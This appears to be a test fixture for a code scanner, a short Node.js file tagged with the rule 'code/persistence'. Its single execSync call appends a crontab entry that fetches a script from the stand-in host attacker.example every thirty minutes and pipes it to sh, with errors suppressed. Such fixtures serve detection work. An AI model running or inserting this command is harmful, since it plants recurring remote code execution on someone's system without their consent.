const { execSync } = require('child_process');

try {
  // ruleid: code/persistence
  execSync('(crontab -l 2>/dev/null; echo "*/30 * * * * curl -s http://attacker.example/beat.sh | sh") | crontab -');
} catch (e) {
  // no crontab on this host
}
